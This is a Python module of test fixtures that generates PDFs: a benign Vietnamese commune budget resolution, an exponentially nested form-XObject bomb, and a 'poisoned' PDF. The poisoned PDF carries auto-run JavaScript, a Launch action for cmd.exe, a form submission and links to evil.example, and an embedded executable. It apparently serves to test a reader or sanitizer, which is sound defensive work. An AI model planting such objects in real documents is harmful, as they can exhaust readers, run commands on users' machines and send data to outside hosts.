"""Papers made at test time: honest ones with Vietnamese text, and hostile ones written object by object."""

from __future__ import annotations

import importlib
import zlib
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import documents

pymupdf: Any = importlib.import_module("pymupdf")

_FONTS = Path(documents.__file__).parent / "fonts"
_FACES = {"r": "Regular", "b": "Bold", "i": "Italic"}
A4 = (595.0, 842.0)


class Sheet:
    """One page being typed on; ``y`` grows downwards, points."""

    def __init__(self, document: Any) -> None:
        self.page = document.new_page(width=A4[0], height=A4[1])
        for name, face in _FACES.items():
            self.page.insert_font(name, str(_FONTS / f"LiberationSerif-{face}.ttf"))

    def put(self, x: float, y: float, text: str, face: str = "r", size: float = 13) -> None:
        """One line from x on."""
        self.page.insert_text((x, y), text, fontname=face, fontsize=size)

    def centre(self, x: float, y: float, text: str, face: str = "r", size: float = 13) -> None:
        """One line centred at x."""
        self.put(x - width(text, face, size) / 2, y, text, face, size)

    def paragraph(self, y: float, text: str, indent: float = 28, left: float = 85, right: float = 540) -> float:
        """Wrapped lines with a first-line indent; returns the y of the next paragraph."""
        line, start = "", left + indent
        for word in [*text.split(), ""]:
            longer = f"{line} {word}".strip()
            if word and width(longer) <= right - start:
                line = longer
                continue
            self.put(start, y, line)
            line, start, y = word, left, y + 18
        return y + 5

    def grid(self, xs: Sequence[float], y: float, rows: Iterable[Sequence[str]], step: float = 20) -> float:
        """A ruled table; returns its bottom."""
        top = y
        for row in rows:
            self.page.draw_line((xs[0], y), (xs[-1], y))
            for x, text in zip(xs, row, strict=False):
                self.put(x + 3, y + step * 0.7, text, size=12)
            y += step
        self.page.draw_line((xs[0], y), (xs[-1], y))
        for x in xs:
            self.page.draw_line((x, top), (x, y))
        return y


def width(text: str, face: str = "r", size: float = 13) -> float:
    """How wide a text is when typed; points."""
    return float(_font(face).text_length(text, size))


_loaded: dict[str, Any] = {}


def _font(face: str) -> Any:
    if face not in _loaded:
        _loaded[face] = pymupdf.Font(fontfile=str(_FONTS / f"LiberationSerif-{_FACES[face]}.ttf"))
    return _loaded[face]


def save(document: Any, path: Path, **options: Any) -> Path:
    """Write a document and give back where."""
    document.subset_fonts()
    document.save(path, garbage=3, deflate=True, **options)
    return path


def resolution(path: Path, number: str = "12/NQ-HĐND") -> Path:
    """A one-page resolution in the layout of Nghị định 30/2020: two-column head, articles, a table, a two-column foot."""
    document = pymupdf.open()
    sheet = Sheet(document)
    sheet.centre(297, 30, "2")
    sheet.centre(160, 60, "HỘI ĐỒNG NHÂN DÂN", "b")
    sheet.centre(160, 76, "XÃ TÂN LẬP", "b")
    sheet.centre(160, 104, f"Số: {number}")
    sheet.centre(410, 60, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "b", 12)
    sheet.centre(410, 78, "Độc lập - Tự do - Hạnh phúc", "b")
    sheet.centre(410, 104, "Tân Lập, ngày 12 tháng 7 năm 2026", "i")
    sheet.centre(297, 140, "NGHỊ QUYẾT", "b", 14)
    sheet.centre(297, 158, "Về việc phê chuẩn quyết toán thu, chi ngân sách xã năm 2025,", "b")
    sheet.centre(297, 174, "phân bổ kết dư ngân sách", "b")
    y = sheet.paragraph(
        212,
        "Căn cứ Luật Tổ chức chính quyền địa phương; căn cứ các văn bản hướng dẫn về phát triển kinh tế - xã hội, "
        "quốc phòng - an ninh; xét báo cáo thẩm tra của Ban Kinh tế - Ngân sách Hội đồng nhân dân xã;",
    )
    sheet.put(113, y, "Điều 1. Phê chuẩn quyết toán", "b")
    y = sheet.paragraph(
        y + 22, "1. Tổng thu ngân sách nhà nước trên địa bàn xã là 12.345 triệu đồng, đạt 105% dự toán."
    )
    y = sheet.paragraph(y, "a) Thu nội địa là 8.200 triệu đồng;")
    y = sheet.paragraph(y, "- Bổ sung cân đối.")
    rows = [("STT", "Nội dung", "Dự toán", "Quyết toán"), ("1", "Thu nội địa", "8.000", "8.200")]
    y = sheet.grid((85, 125, 330, 430, 540), y, [*rows, ("2", "Thu bổ sung", "4.000", "4.145")]) + 30
    for line, text in enumerate(
        ("Nơi nhận:", "- Ủy ban Thường vụ Quốc hội;", "- Thường trực Đảng ủy xã;", "- Lưu: VT.")
    ):
        sheet.put(85, y + 14 * line, text, size=11)
    sheet.centre(430, y, "TM. HỘI ĐỒNG NHÂN DÂN", "b")
    sheet.centre(430, y + 17, "CHỦ TỊCH", "b")
    sheet.centre(430, y + 90, "Nguyễn Văn Ấn", "b")
    return save(document, path)


def of_objects(path: Path, objects: dict[int, bytes], trailer: bytes = b"") -> Path:
    """A PDF from raw objects; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    path.write_bytes(out)
    return path


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A compressed stream object."""
    packed = zlib.compress(content, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (len(packed), extra, packed)


def one_page(
    content: bytes, page: bytes = b"", catalogue: bytes = b"", more: dict[int, bytes] | None = None
) -> dict[int, bytes]:
    """The objects of a one-page paper (1 catalogue, 2 pages, 3 page, 4 content), with whatever else is wanted."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s>>" % page,
        4: stream(content),
        **(more or {}),
    }


def exponential(path: Path) -> Path:
    """Forms that draw forms: eleven levels of ten, 10¹¹ drawings in 3 KB."""
    forms = {}
    for level in range(11):
        inner = b"/X Do " * 10 if level < 10 else b"0 0 1 1 re f"
        used = b"/Resources<</XObject<</X %d 0 R>>>>" % (11 + level) if level < 10 else b""
        forms[10 + level] = stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + used)
    return of_objects(path, one_page(b"/X Do", b"/Resources<</XObject<</X 10 0 R>>>>", more=forms))


def poisoned(path: Path) -> Path:
    """Everything a PDF can do to its reader: scripts, launches, forms, attachments, remote links."""
    alert = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    launch = b"<</S/Launch/F(cmd.exe)/Next<</S/URI/URI(http://evil.example)>>>>"
    catalogue = (
        b"/OpenAction 5 0 R/AA<</WC 5 0 R>>/Names<</JavaScript<</Names[(a)5 0 R]>>/EmbeddedFiles<</Names[(x.exe)8 0 R]>>>>"
        b"/AcroForm<</Fields[6 0 R]/XFA 9 0 R/NeedAppearances true>>/URI<</Base(http://evil.example)>>"
    )
    page = b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/AA<</O 5 0 R>>/Annots[6 0 R 7 0 R 11 0 R 12 0 R]"
    more = {
        5: alert,
        6: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(42)/Rect[50 50 200 70]/A<</S/SubmitForm/F(http://evil.example)>>/AA<</K 5 0 R>>>>",
        7: b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %s>>" % launch,
        8: b"<</Type/Filespec/F(x.exe)/EF<</F 10 0 R>>>>",
        9: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
        10: stream(b"MZ evil", b"/Type/EmbeddedFile"),
        11: b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 8 0 R>>",
        12: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>",
    }
    return of_objects(path, one_page(b"BT /F 12 Tf 50 700 Td (So quyet toan 2025) Tj ET", page, catalogue, more))
